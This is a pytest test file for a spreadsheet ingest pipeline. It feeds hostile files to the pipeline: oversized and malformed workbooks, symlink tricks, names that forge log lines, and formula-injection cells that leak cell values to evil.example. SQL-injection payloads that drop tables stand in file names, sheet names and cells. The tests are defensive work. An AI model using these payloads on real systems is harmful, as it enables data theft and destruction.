"""Hostile files: each is refused, or read safely, within bounded memory and time; each is reported
to the sender in Chinese and to us in English; none stops the month or changes its figures. And no
value from a file ever becomes SQL: names built to break a query are stored as they were typed."""
from __future__ import annotations

import datetime as dt
import io
import os
import re
import shutil
import zipfile

import duckdb
import openpyxl
import pytest
import xlsxwriter
from python_calamine import CalamineWorkbook

from conftest import INBOX, PERIOD
from fixtures.build_hostile import FORMULA_NAME, FORMULA_TEXT, with_rows, workbook, write_hostile
from flows import pii
from flows.config import SCHEMAS
from flows.monthly import monthly_rollup
from flows.ingest.read import read_file
from flows.schemas import load_forms
from runs import descendants, run, wait_gone

FORMS = load_forms(SCHEMAS)
CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f]")


@pytest.fixture(scope="module")
def hostile_month(tmp_path_factory):
    """The fixture month plus every hostile file, run by `shegong run` as the bureau runs it."""
    tmp = tmp_path_factory.mktemp("hostile")
    root = tmp / "inbox" / PERIOD
    shutil.copytree(INBOX / PERIOD, root)
    outside = tmp / "outside.csv"
    outside.write_text("村（社区）代码,户籍人口\n510402001002,1\n", encoding="utf-8")
    expected = write_hostile(root, outside)
    db = tmp / "warehouse.duckdb"
    done = run(["run", "--period", PERIOD, "--inbox", str(tmp / "inbox"), "--db", str(db)], tmp, timeout=300)
    return done, db, expected


def test_the_month_completes_within_bounded_memory_and_time(hostile_month):
    done, _, _ = hostile_month
    assert done.returncode == 0, done.stderr
    # Safety bounds, not targets: a gigabyte bomb, a million formatted rows and a sheet reaching
    # XFD1048576 are in this month (measured: about 0.7 GB, the reader process's, and 11 s; 100 s
    # on the same 2 cores shared with other work, hence a bound that catches a hang, not a pace).
    assert done.peak_rss_mb < 1500, done.peak_rss_mb
    assert done.seconds < 240, done.seconds
    assert "Traceback" not in done.stderr


def test_each_hostile_file_is_reported_with_its_reason(hostile_month):
    _, db, expected = hostile_month
    with duckdb.connect(str(db), read_only=True) as c:
        got = {path: (status, zh) for path, status, zh in c.execute(
            "select path, status, reason_zh from ingest.files where period = ?", [PERIOD]).fetchall()}
    assert {path: got.get(path) for path in expected} == expected


def test_hostile_files_do_not_change_the_month(hostile_month, con):
    _, db, _ = hostile_month
    query = "select * exclude (period) from mart.indicator_values where period = ? order by unit_code, indicator_id"
    with duckdb.connect(str(db), read_only=True) as c:
        assert c.execute(query, [PERIOD]).fetchall() == con.execute(query, [PERIOD]).fetchall()


def test_names_with_control_characters_never_reach_the_log_raw(hostile_month):
    done, _, _ = hostile_month
    assert not CONTROL.search(done.stderr.replace("\n", ""))
    # The name with a line break and a forged log line stays on its own, real, line.
    forged = [line for line in done.stderr.splitlines() if "伪造的日志行" in line]
    assert forged == [f"{line[:8]} WARNING shegong: file rejected: 市本级/说明\\x0a12:00:00 ERROR shegong: "
                      f"伪造的日志行.xlsx: .xlsx file is not a zip container" for line in forged]
    assert len(forged) == 1
    assert "file rejected: 市本级/\\x1b[31m红色\\x1b[0m.csv" not in done.stderr  # read, not rejected
    assert "\x1b" not in done.stderr


def workbooks_written(db):
    """Every worksheet XML of every workbook the run wrote for the month (feedback and reports), with
    the cells calamine reads."""
    for path in sorted([*(db.parent / "feedback" / PERIOD).glob("*.xlsx"), *(db.parent / "reports" / PERIOD).glob("*.xlsx")]):
        with zipfile.ZipFile(path) as z:
            xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
        wb = CalamineWorkbook.from_path(str(path))
        cells = [str(v) for name in wb.sheet_names for row in wb.get_sheet_by_name(name).to_python() for v in row]
        yield path, xml, cells


def test_formula_text_goes_back_to_the_sender_as_text_never_a_formula(hostile_month):
    _, db, _ = hostile_month
    seen, feedback = set(), 0
    for path, xml, cells in workbooks_written(db):
        # Our own workbooks hold no formula at all; any would be a sender's text turned live.
        assert b"<f>" not in xml and b"<f " not in xml, f"{path.name} has a formula cell"
        seen |= set(cells) & {*FORMULA_TEXT, FORMULA_NAME}
        # A sender's file name is shown with its control characters escaped.
        assert not [c for c in cells if CONTROL.search(c.replace("\n", ""))], path.name
        feedback += path.parent.parent.name == "feedback"
    assert feedback and seen == {*FORMULA_TEXT, FORMULA_NAME}


def test_feedback_writes_text_as_strings(tmp_path):
    """The feedback writer on its own: text that looks like a formula, a number or a link stays text."""
    from flows.outputs.feedback import Problem, _workbook
    values = FORMULA_TEXT + ["0012", "http://evil.example/", "1E+5"]
    problems = [Problem("a.xlsx", "S", i + 2, "村（社区）代码", v, "x", "error", "510402000000")
                for i, v in enumerate(values)]
    data = _workbook("510402000000", "东区", 2024, 3, problems)
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<hyperlink" not in xml
    sheet = openpyxl.load_workbook(io.BytesIO(data))["问题清单"]
    assert [sheet.cell(r + 4, 5).value for r in range(len(values))] == values
    assert all(sheet.cell(r + 4, 5).data_type == "s" for r in range(len(values)))


def test_formulas_are_read_as_their_cached_values_never_evaluated(tmp_path):
    root = tmp_path / PERIOD
    root.mkdir()
    path = root / "formulas.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    ws = wb.add_worksheet("村社区月报")
    ws.write_string(0, 0, "表号：SG-01")
    for c, h in enumerate(["村（社区）代码", "村（社区）名称", "户籍人口", "社区专职工作者人数", "其中持证人数"]):
        ws.write_string(1, c, h)
    ws.write_string(2, 0, "510402001002")
    ws.write_formula(2, 1, '=HYPERLINK("http://evil.example/?leak="&A3,"大渡口街社区居民委员会")', None,
                     "大渡口街社区居民委员会")
    ws.write_formula(2, 2, '=WEBSERVICE("http://evil.example/")', None, 5000)
    ws.write_formula(2, 3, "=1+1", None, 8)
    ws.write_formula(2, 4, "=2+1")  # no cached value: as Excel would show before recalculating, 0
    wb.close()
    record, rows = read_file(path, root, PERIOD, FORMS, pii.load_key())
    assert record.status == "read"
    row = rows["SG-01"][0]
    assert (row["unit_name"], row["registered_population"], row["community_workers"],
            row["community_workers_certified"]) == ("大渡口街社区居民委员会", 5000, 8, 0)


def test_a_formula_saved_without_its_value_is_blank_not_its_text(tmp_path):
    root = tmp_path / PERIOD
    root.mkdir()
    wb = openpyxl.Workbook()  # openpyxl stores formulas without a cached value
    ws = wb.active
    ws.append(["村（社区）代码", "村（社区）名称", "户籍人口", "社区专职工作者人数", "其中持证人数"])
    ws.append(["510402001002", '=HYPERLINK("http://evil.example/","x")', "=1+1", 8, 3])
    wb.save(root / "openpyxl.xlsx")
    _, rows = read_file(root / "openpyxl.xlsx", root, PERIOD, FORMS, pii.load_key())
    assert (rows["SG-01"][0]["unit_name"], rows["SG-01"][0]["registered_population"]) == (None, None)


def test_a_reader_that_dies_rejects_its_file_only_and_the_next_file_is_read(tmp_path):
    # One value at XFD1048576: calamine asks for 550 GB and aborts, which no except clause catches.
    far = b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    (tmp_path / "far.xlsx").write_bytes(with_rows(workbook([["说明"]]), "xl/worksheets/sheet1.xml", far))
    record, rows = read_file(tmp_path / "far.xlsx", tmp_path, PERIOD, FORMS, pii.load_key())
    assert (record.status, record.reason_en, rows) == (
        "rejected", "spreadsheet reader process ended (signal SIGABRT) reading this file (memory limit 1024 MB)", {})
    ok = INBOX / PERIOD / "东区" / "东区民政局3月.xlsx"
    record, rows = read_file(ok, ok.parent, PERIOD, FORMS, pii.load_key())
    assert record.status == "read" and rows


def test_a_workbook_is_sent_whole_to_its_reader_while_signals_interrupt_the_write(tmp_path):
    """A write into the reader's full pipe that a signal interrupts takes part of the workbook; the
    rest must follow, or the reader waits for it and the file times out as unreadable (60 s, then
    rejected). Signals every half millisecond, a workbook of 1 MB (the pipe holds 64 KB)."""
    import random
    import signal
    import string
    from flows.ingest.sandbox import _READER
    rnd = random.Random(1)
    wb = openpyxl.Workbook()
    for _ in range(3000):
        wb.active.append(["".join(rnd.choices(string.ascii_letters, k=40)) for _ in range(10)])
    wb.save(tmp_path / "big.xlsx")
    data = (tmp_path / "big.xlsx").read_bytes()
    assert len(data) > 8 * 65536
    old = signal.signal(signal.SIGALRM, lambda *_: None)
    signal.setitimer(signal.ITIMER_REAL, 0.0005, 0.0005)
    try:
        sheets = _READER.parse("xlsx", data)
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, old)
    (_, _, rows, _), = sheets
    assert len(rows) == 3000 and rows[0][0] == wb.active["A1"].value and rows[-1][-1] == wb.active["J3000"].value


POOL_SCRIPT = r"""
import sys, time
from pathlib import Path
from flows.ingest import sandbox
if __name__ == "__main__":
    root = Path(sys.argv[1])
    pool = sandbox._pool(2)
    # Both workers busy at once, each with its reader process started.
    list(pool.map(sandbox.parse_files, [[root / "东区" / "东区民政局3月.xlsx"]] * 4, [root] * 4, ["2024-03"] * 4))
    print("ready", flush=True)
    time.sleep(600)
"""


def test_a_run_killed_with_sigkill_leaves_no_pool_or_reader_process_behind(tmp_path):
    """The read pool's workers are the forkserver's children and hold its queues open, so they
    never saw the process whose pool they were die: killed with SIGKILL (or at a memory limit),
    it left the forkserver, both workers and their reader processes waiting forever. Each worker
    now ends once that process has gone (sandbox._end_with), and the rest with them."""
    import signal
    import subprocess
    import sys
    proc = subprocess.Popen([sys.executable, "-c", POOL_SCRIPT, str(INBOX / PERIOD)], stdout=subprocess.PIPE,
                            text=True, cwd=tmp_path)
    try:
        assert proc.stdout.readline() == "ready\n"
        left = descendants(proc.pid)
        names = [open(f"/proc/{p}/cmdline").read().split("\0") for p in left]
        assert sum(n[1:3] == ["-m", "flows.ingest.sandbox"] for n in names) == 2  # a reader per worker
        assert sum(any("forkserver" in a for a in n) for n in names) == 3  # the forkserver, two workers
    finally:
        proc.send_signal(signal.SIGKILL)
        proc.wait()
    assert wait_gone(left) == []


@pytest.mark.parametrize("make, en", [
    (lambda p: p.symlink_to(p), "symbolic link that cannot be followed (dangling or a loop)"),
    (lambda p: p.symlink_to(p.parent / "gone.csv"), "symbolic link that cannot be followed (dangling or a loop)"),
    (lambda p: os.mkfifo(p.parent / "pipe") or p.symlink_to(p.parent / "pipe"),
     "symbolic link to something other than a regular file"),
])
def test_links_that_cannot_be_read_are_refused_without_blocking(tmp_path, make, en):
    make(tmp_path / "a.csv")
    record, rows = read_file(tmp_path / "a.csv", tmp_path, PERIOD, FORMS, pii.load_key())
    assert (record.status, record.reason_en, rows) == ("rejected", en, {})


def test_a_csv_field_longer_than_a_line_may_be_is_refused(tmp_path):
    # Short lines, one quoted field spanning 100,000 of them: the csv module's own limit would
    # raise out of the reader and stop the month.
    (tmp_path / "a.csv").write_text('村（社区）代码,户籍人口\n510402001002,"' + "1\n" * 100_000 + '"\n', encoding="utf-8")
    record, rows = read_file(tmp_path / "a.csv", tmp_path, PERIOD, FORMS, pii.load_key())
    assert (record.status, record.reason_zh, rows) == (
        "rejected", "CSV 文件格式有误（引号不成对或字段过长），无法读取；请用 Excel 另存为 .xlsx 后重新报送", {})


def test_a_file_too_large_is_refused_without_being_read(tmp_path):
    with open(tmp_path / "a.csv", "wb") as fh:
        fh.truncate(200 * 1024 * 1024)  # sparse: takes no disk
    record, rows = read_file(tmp_path / "a.csv", tmp_path, PERIOD, FORMS, pii.load_key())
    assert (record.status, record.sha256, record.reason_zh, rows) == (
        "rejected", "", "文件过大（200 MB，上限 64 MB），不是正常的月报表，不予读取；请只报送本月报表，必要时拆分为多个文件", {})


# --- SQL ----------------------------------------------------------------------------------------

PAYLOADS = ["x'); drop table mart.indicator_values; --", "'; delete from ingest.files; --",
            "\\'; drop schema mart cascade; --", "$$; drop table ref.units; $$", '"); select 1; --',
            "%s %(x)s ? $1 :name"]


def test_values_built_to_break_sql_round_trip_as_text(tmp_path, con):
    root = tmp_path / "inbox" / PERIOD
    shutil.copytree(INBOX / PERIOD, root)
    # A village's row sent again, newer, under a name that is a query; its figures unchanged.
    rows = [["填报单位：x');drop/**/table/**/mart.indicator_values;--"], ["表号：SG-01"], SG01_SHORT]
    rows += [[code, name, 5000, 8, 3] for code, name in zip(VILLAGES, PAYLOADS)]
    name = "x'); drop table mart.indicator_values; --.xlsx"
    (root / "东区" / name).write_bytes(workbook(rows, sheet="a'); drop table x; --"))
    later = dt.datetime(2024, 4, 4).timestamp()
    os.utime(root / "东区" / name, (later, later))
    db = tmp_path / "warehouse.duckdb"
    monthly_rollup(period=PERIOD, inbox=str(tmp_path / "inbox"), db=str(db))
    with duckdb.connect(str(db), read_only=True) as c:
        stored = c.execute("select unit_code, unit_name, source_sheet from staging.sg01 "
                           "where period = ? and source_file = ? order by excel_row",
                           [PERIOD, f"东区/{name}"]).fetchall()
        assert stored == [(code, text, "a'); drop table x; --") for code, text in zip(VILLAGES, PAYLOADS)]
        assert c.execute("select sender from ingest.sheets where path = ?", [f"东区/{name}"]).fetchone() == (
            "x');drop/**/table/**/mart.indicator_values;--",)
        warned = {v for (v,) in c.execute("select value from ingest.failures where path = ? and rule = 'registry_name'",
                                          [f"东区/{name}"]).fetchall()}
        assert warned == set(PAYLOADS)
        # Nothing ran: every table is there, and the month is as complete as a clean one.
        assert c.execute("select count(*) from mart.indicator_values").fetchone() == \
            con.execute("select count(*) from mart.indicator_values").fetchone()
        assert c.execute("select count(*) from ref.units").fetchone() == con.execute(
            "select count(*) from ref.units").fetchone()
        assert c.execute("select count(*) from ingest.files where period = ?", [PERIOD]).fetchone() == (10,)


SG01_SHORT = ["村（社区）代码", "村（社区）名称", "户籍人口", "社区专职工作者人数", "其中持证人数"]
VILLAGES = ["510402001002", "510402001004", "510402001005", "510402001006", "510402001002", "510402001004"]


def test_a_merged_range_over_a_whole_sheet_is_refused_not_filled(tmp_path):
    """Merged cells are filled in (every cell of the range gets its value), but not without bound:
    one range over 10,000 rows and 255 columns is no report."""
    from fixtures.build_hostile import parts, rezip
    rows = b"".join(b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (r, r)
                    for r in range(2, 10001))
    files = parts(with_rows(workbook([["x", "合并"]]), "xl/worksheets/sheet1.xml", rows))
    sheet = files["xl/worksheets/sheet1.xml"]
    files["xl/worksheets/sheet1.xml"] = sheet.replace(
        b"</sheetData>", b'</sheetData><mergeCells count="1"><mergeCell ref="B1:IV10000"/></mergeCells>', 1)
    path = tmp_path / PERIOD / "合并.xlsx"
    path.parent.mkdir()
    path.write_bytes(rezip(files))
    record, rows = read_file(path, path.parent, PERIOD, FORMS, pii.load_key())
    assert (record.status, record.reason_en, rows) == ("rejected", "merged ranges cover more than 2000000 cells", {})
    assert record.reason_zh == ("文件的表格范围过大或结构异常，读取所需内存超过上限，不予读取；请删除多余的行和列"
                                "（或把数据复制到新文件）后重新报送")
